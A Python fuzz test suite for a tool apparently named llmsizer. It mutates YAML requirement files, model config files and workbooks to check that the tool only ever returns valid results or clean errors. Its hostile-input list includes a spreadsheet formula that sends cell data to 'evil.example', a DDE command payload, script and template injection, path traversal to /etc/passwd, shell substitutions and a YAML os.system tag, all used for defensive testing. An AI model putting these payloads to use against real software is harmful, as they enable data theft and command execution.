"""Issue 7: a fuzz test. Valid requirement files are mutated -- keys deleted or misspelt,
types swapped, hostile strings inserted, numbers pushed to and past their bounds, the YAML
text itself cut and spliced, the fields of a model's config.json replaced -- and loaded and
sized in-process. The only outcomes allowed
are a valid result (whose JSON holds only finite numbers and whose file stem is a safe
slug) or an :class:`~llmsizer.base.errors.LlmsizerError` whose message is one line naming the
file. Anything else -- a traceback -- fails the test (Hypothesis shrinks it to a small case).

Deterministic (``derandomize=True``): the same 2,000+ cases run in CI every time.
"""

from __future__ import annotations

import copy
import json
import math
import re
import shutil
import unicodedata
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import EXAMPLE, ROOT
from hypothesis import HealthCheck, given
from hypothesis import strategies as st
from support.hunting import hunt_examples, property_settings

from llmsizer.base.errors import LlmsizerError
from llmsizer.inputs.loader import load
from llmsizer.inputs.schema import json_schema
from llmsizer.inputs.yamlsafe import load_file
from llmsizer.sizing.engine import size

BAD = ROOT / "tests" / "bad_inputs"
EXAMPLES = hunt_examples() or 2000  # a hunt's count (tests/support/hunting.py)
MAX_MESSAGE = 1200

BASES: dict[str, dict[str, Any]] = {
    "full": load_file(BAD / "valid-full.yaml").data,
    "example": load_file(EXAMPLE).data,
    "config": load_file(BAD / "config-valid.yaml").data,  # model: models/ok/config.json
}
BASES["config"]["workloads"][0]["model"] = "models/fuzz/config.json"

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)",
    "<script>alert(1)</script>", "file:///etc/passwd", "{{ 7*7 }}", "{% include '/etc/passwd' %}",
    "../../x", "..", "/", "\\\\server\\share", "CON", "\x1b[31mred", "bell\x07", "nul\x00",
    "a\u202eb", "\u2066iso", "line\nbreak", "tab\there", "x" * 10_000, "", " ", "[/]", "[bold]",
    "%s%n%x", "${HOME}", "$(id)", "`id`", "NO", "yes", "010", "1.10", "2s", "500 ms", "10%",
    "$0.12", "10k", "h100", "fp9", "null", "~", "&a", "*a", "<<", "!!python/object", "é" * 300,
    "models/ok/config.json", "../models/ok/config.json", "models/../models/ok/config.json",
    "/etc/passwd.json", "models/ok", "models/absent/config.json", "models/ok/config.json/",
    "日本電気/../株式会社", "Ελληνική Τράπεζα" * 10, "टाटा‍कंसल्टेंसी", "شركة‫x", "🚀🌕",
]
EXTREME_NUMBERS = [
    0, -0.0, -1, 1, 0.5, 0.99, 1.0, 3, 8, 72, 600, 3600, 10_000, 1e6, 1e9, 1e12, 1e15, 1e300,
    -1e300, 5e-324, 1e-300, 1e-9, 0.01, 0.0099, 2**31, 2**53 + 1, 2**63, 10**20, 10**30,
    math.nan, math.inf, -math.inf, 10_000_000, 2_000_000, 1_000_000,
]
OTHER = [True, False, None, [], {}, [None], [[]], {"a": 1}, ["h100-sxm"] * 60, [1, 2, 4, 8],
         ["fp8"], {"h100-sxm": 1}]
TEXT_SNIPPETS = ["\t", ":", ": ", "- ", "&a ", "*a", "!!str ", "!!python/object:os.system ",
                 "<<: ", "'", '"', "[", "]", "{", "}", "#", "\x00", "\ufeff", "\u202e", " ",
                 "\n", "\n  ", "---\n", "...\n", "%YAML 1.1\n", "? ", "|", ">", "@", "`"]

values = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.sampled_from(EXTREME_NUMBERS),
    st.sampled_from(OTHER),
    st.floats(allow_nan=True, allow_infinity=True),
    st.integers(min_value=-(10**25), max_value=10**25),
    st.text(max_size=30),
)
ops = st.one_of(
    st.tuples(st.just("delete"), st.integers(0, 10**6)),
    st.tuples(st.just("set"), st.integers(0, 10**6), values),
    st.tuples(st.just("swap"), st.integers(0, 10**6)),
    st.tuples(st.just("bound"), st.integers(0, 10**6), st.integers(0, 5)),
    st.tuples(st.just("hostile"), st.integers(0, 10**6), st.sampled_from(HOSTILE_TEXT)),
    st.tuples(st.just("misspell"), st.integers(0, 10**6), st.integers(0, 3)),
    st.tuples(st.just("add"), st.integers(0, 10**6), st.text(min_size=1, max_size=12), values),
)
text_ops = st.one_of(
    st.tuples(st.just("insert"), st.integers(0, 10**6), st.sampled_from(TEXT_SNIPPETS)),
    st.tuples(st.just("cut"), st.integers(0, 10**6), st.integers(1, 40)),
    st.tuples(st.just("dup"), st.integers(0, 10**6), st.integers(1, 80)),
)
# config.json mutations (the "config" base names models/fuzz/config.json, rewritten per case).
CONFIG = json.loads((BAD / "models" / "ok" / "config.json").read_text("utf-8"))
CONFIG_KEYS = [*CONFIG, "num_local_experts", "num_experts_per_tok", "moe_intermediate_size",
               "kv_lora_rank", "qk_rope_head_dim", "tie_word_embeddings", "text_config",
               "num_parameters"]
CONFIG_VALUES = [0, -1, 1, 2, 8, 7, 64, 10**6, 10**7, 10**12, 10**30, 1.5, 1e300, "8192", None,
                 True, [], {}, {"hidden_size": 4096}, 2**31, "x" * 300 + "\x1b[31m"]
config_ops = st.lists(st.tuples(st.sampled_from(CONFIG_KEYS), st.sampled_from(CONFIG_VALUES)),
                      max_size=4)

# Hostile text that is valid input (one line, printable, at most 200 characters).
SAFE_HOSTILE = [t for t in HOSTILE_TEXT
                if t.strip() and len(t) <= 200 and t.isprintable() and "\u202e" not in t]
# Mild cases stay mostly valid, so the engine (not only the schema) meets extreme values and
# hostile names; wild cases break anything, the YAML text included.
mild_ops = st.one_of(
    st.tuples(st.just("inrange"), st.integers(0, 10**6), st.integers(0, 2)),
    st.tuples(st.just("hostile"), st.integers(0, 10**6), st.sampled_from(SAFE_HOSTILE)),
)
cases = st.one_of(
    st.tuples(st.sampled_from(sorted(BASES)), st.lists(mild_ops, min_size=1, max_size=6),
              st.just([]), config_ops),
    st.tuples(st.sampled_from(sorted(BASES)), st.lists(ops, min_size=1, max_size=4),
              st.one_of(st.just([]), st.lists(text_ops, min_size=1, max_size=2)), st.just([])),
)


# --- the schema's bounds, for 'bound' mutations ---------------------------------------------


def _schema_node(loc: tuple[str | int, ...]) -> dict[str, Any]:
    root = json_schema()
    defs = root.get("$defs", {})
    node: Any = root
    for part in (*loc, None):
        while isinstance(node, dict) and ("$ref" in node or "anyOf" in node):
            if "$ref" in node:
                node = defs[node["$ref"].rsplit("/", 1)[-1]]
            else:
                node = next((o for o in node["anyOf"] if o.get("type") != "null"), {})
        if part is None or not isinstance(node, dict):
            break
        if isinstance(part, int):
            node = node.get("items", {})
        elif part in node.get("properties", {}):
            node = node["properties"][part]
        else:
            node = node.get("additionalProperties", {})
    return node if isinstance(node, dict) else {}


def _in_range(loc: tuple[str | int, ...], which: int) -> Any:
    """The smallest allowed value, the largest, or one just inside the lower bound."""
    node = _schema_node(loc)
    if node.get("type") not in ("integer", "number"):
        return None
    integer = node.get("type") == "integer"
    lo = node.get("minimum")
    if lo is None and node.get("exclusiveMinimum") is not None:
        lo = node["exclusiveMinimum"] + (1 if integer else 1e-6)
    hi = node.get("maximum")
    candidates = [v for v in (lo, hi, None if lo is None else lo * 1.5 + 0.01) if v is not None]
    if not candidates:
        return None
    value = min(candidates[which % len(candidates)], hi if hi is not None else math.inf)
    return int(value) if integer else float(value)


def _bound_value(loc: tuple[str | int, ...], which: int) -> Any:
    node = _schema_node(loc)
    lo = node.get("minimum", node.get("exclusiveMinimum"))
    hi = node.get("maximum")
    integer = node.get("type") == "integer"
    candidates = []
    if lo is not None:
        step = 1 if integer else max(abs(lo) * 1e-9, 5e-324)
        candidates += [lo, lo - step, lo + step]
    if hi is not None:
        step = 1 if integer else max(abs(hi) * 1e-9, 5e-324)
        candidates += [hi, hi + step, hi - step]
    if not candidates:
        return [0, -1, 10**30, 1e308, 5e-324, math.nan][which]
    value = candidates[which % len(candidates)]
    return int(value) if integer else float(value)


# --- applying mutations -----------------------------------------------------------------------


def _paths(node: Any, pre: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    out = [pre] if pre else []
    if isinstance(node, dict):
        for k, v in node.items():
            out += _paths(v, (*pre, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            out += _paths(v, (*pre, i))
    return out


def _parent(doc: Any, loc: tuple[str | int, ...]) -> Any:
    for part in loc[:-1]:
        doc = doc[part]
    return doc


def _swap(value: Any) -> Any:
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float):
        return f"{value} tokens"
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return value[0] if value else "[]"
    if isinstance(value, dict):
        return next(iter(value), None)
    return "null"


def _misspell(key: str, how: int) -> str:
    if how == 0:
        return key[:-1] or "x"
    if how == 1:
        return key + "s"
    if how == 2:
        return key.replace("_", "-") if "_" in key else key.upper()
    return key[1:] + key[0]


def mutate(doc: dict[str, Any], op: tuple[Any, ...]) -> None:
    paths = _paths(doc)
    if not paths:
        return
    loc = paths[op[1] % len(paths)]
    parent, last = _parent(doc, loc), loc[-1]
    kind = op[0]
    if kind == "delete":
        del parent[last]
    elif kind == "set":
        parent[last] = copy.deepcopy(op[2])
    elif kind == "swap":
        parent[last] = _swap(parent[last])
    elif kind == "bound":
        parent[last] = _bound_value(tuple(p if isinstance(p, str) else 0 for p in loc), op[2])
    elif kind == "inrange":
        numbers = [p for p in paths if isinstance(_parent(doc, p)[p[-1]], int | float)
                   and not isinstance(_parent(doc, p)[p[-1]], bool)]
        if numbers:
            n = numbers[op[1] % len(numbers)]
            value = _in_range(tuple(q if isinstance(q, str) else 0 for q in n), op[2])
            if value is not None:
                _parent(doc, n)[n[-1]] = value
    elif kind == "hostile":
        texts = [p for p in paths if isinstance(_parent(doc, p)[p[-1]], str)]
        if texts:
            t = texts[op[1] % len(texts)]
            _parent(doc, t)[t[-1]] = op[2]
    elif kind == "misspell" and isinstance(parent, dict) and isinstance(last, str):
        parent[_misspell(last, op[2])] = parent.pop(last)
    elif kind == "add":
        target = parent if isinstance(parent, dict) else doc
        target[op[2]] = copy.deepcopy(op[3])


def splice(text: str, op: tuple[Any, ...]) -> str:
    at = op[1] % (len(text) + 1)
    if op[0] == "insert":
        return text[:at] + op[2] + text[at:]
    if op[0] == "cut":
        return text[:at] + text[at + op[2]:]
    return text[:at] + text[at:at + op[2]] + text[at:]  # duplicate a stretch


# --- the test ---------------------------------------------------------------------------------

_NON_FINITE = re.compile(r"\b(?:NaN|-?Infinity)\b")


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("fuzz")
    (folder / "models" / "ok").mkdir(parents=True)
    (folder / "models" / "fuzz").mkdir(parents=True)
    shutil.copy(BAD / "models" / "ok" / "config.json", folder / "models" / "ok" / "config.json")
    return folder


def test_fuzz_only_valid_results_or_clean_errors(workdir: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    counts: Counter[str] = Counter()
    path = workdir / "fuzzed.yaml"
    before = sorted(p.relative_to(workdir) for p in workdir.rglob("*"))

    @property_settings(EXAMPLES, deadline=None, derandomize=True, database=None,
                       suppress_health_check=list(HealthCheck))
    @given(case=cases)
    def one(case: tuple[str, list[tuple[Any, ...]], list[tuple[Any, ...]],
                        list[tuple[str, Any]]]) -> None:
        base, changes, text_changes, config_changes = case
        config = dict(CONFIG)
        for key, value in config_changes:
            config[key] = value
        (workdir / "models" / "fuzz" / "config.json").write_text(json.dumps(config))
        doc = copy.deepcopy(BASES[base])
        for op in changes:
            mutate(doc, op)
        text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=1_000)
        for op in text_changes:
            text = splice(text, op)
        path.write_bytes(text.encode("utf-8", "surrogatepass"))
        counts["tried"] += 1
        try:
            result = size(load(path))
        except LlmsizerError as exc:
            message = str(exc)
            # one line; or, for several problems, a block of such lines (issue 25)
            head, *more = message.split("\n")
            assert head.startswith(str(path)) and len(head) <= MAX_MESSAGE, message[:200]
            for line in more:
                assert line.startswith((f"  {path}", "  and ")), message[:200]
                assert len(line) <= MAX_MESSAGE, line[:200]
            assert len(more) <= 21, len(more)
            counts["clean errors"] += 1
            return
        except BaseException:
            counts["tracebacks"] += 1
            raise
        out = result.to_json()
        assert not _NON_FINITE.search(out), "non-finite number in the results JSON"
        json.loads(out)
        slug = result.account.slug  # letters, digits and their marks; single inner hyphens
        assert all(p and unicodedata.category(p[0])[0] in "LN" and
                   all(unicodedata.category(c)[0] in "LNM" for c in p)
                   for p in slug.split("-")) and len(slug.encode()) <= 120, slug
        counts["infeasible" if any(w.recommended is None for w in result.workloads)
               else "valid"] += 1

    one()
    after = sorted(p.relative_to(workdir) for p in workdir.rglob("*"))
    leaked = len(set(after) - set(before) - {path.relative_to(workdir),
                                             Path("models/fuzz/config.json")})
    corrupted = int((workdir / "models" / "ok" / "config.json").read_bytes()
                    != (BAD / "models" / "ok" / "config.json").read_bytes())
    line = (f"fuzz: {counts['tried']} cases tried, {counts['clean errors']} clean errors, "
            f"{counts['valid']} valid, {counts['infeasible']} infeasible, "
            f"{counts['tracebacks']} tracebacks, {leaked + corrupted} files leaked or corrupted")
    with capsys.disabled():
        print("\n" + line)
    assert counts["tracebacks"] == 0 and leaked == 0 and corrupted == 0, line
    assert counts["tried"] >= EXAMPLES, line
    assert counts["valid"] + counts["infeasible"] >= EXAMPLES // 10, line  # the engine was reached


# --- issue 17: hostile workbooks (``llmsizer report edited.xlsx``) ----------------------------

WORKBOOK_CASES = 500


def test_fuzz_workbooks_only_clean_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]
                                          ) -> None:
    """500 seeded mutations of a workbook llmsizer wrote (sheet and string XML, entities
    and document types in any part, zip members, zip bytes and lying sizes, the embedded
    data) read back in one process (tests/support/workbook_fuzz.py): only a valid re-read
    or a one-line InputError naming the file and where; each case within 10 s and with at
    most 500 MB more address space; no temp folder left, the base workbook unchanged."""
    import subprocess
    import sys

    driver = Path(__file__).parent / "support" / "workbook_fuzz.py"
    proc = subprocess.run([sys.executable, str(driver), str(tmp_path), str(WORKBOOK_CASES),
                           "17"], capture_output=True, text=True, timeout=900)
    lines = proc.stdout.strip().splitlines()
    assert proc.returncode == 0 and lines, proc.stdout[-3000:] + proc.stderr[-3000:]
    counts = json.loads(lines[-1])
    line = (f"workbook fuzz: {counts['tried']} cases tried, {counts['clean errors']} clean "
            f"errors, {counts['valid']} valid, {counts['tracebacks']} tracebacks, "
            f"{counts['unclear messages']} unclear messages, {counts['hangs']} hangs, "
            f"{counts['out of memory']} over 500 MB, {counts['leaks or corruptions']} leaks or "
            f"corruptions; slowest case {counts['slowest_s']} s, peak RSS "
            f"{counts['peak_rss_mb']} MB")
    with capsys.disabled():
        print("\n" + line)
    assert counts["tried"] >= WORKBOOK_CASES, line
    bad = ("tracebacks", "unclear messages", "hangs", "out of memory", "leaks or corruptions")
    assert all(counts[k] == 0 for k in bad), line + "\n" + "\n".join(lines[:-1])
    assert counts["clean errors"] >= WORKBOOK_CASES // 2 and counts["valid"] > 0, line
    assert counts["slowest_s"] < 10, line
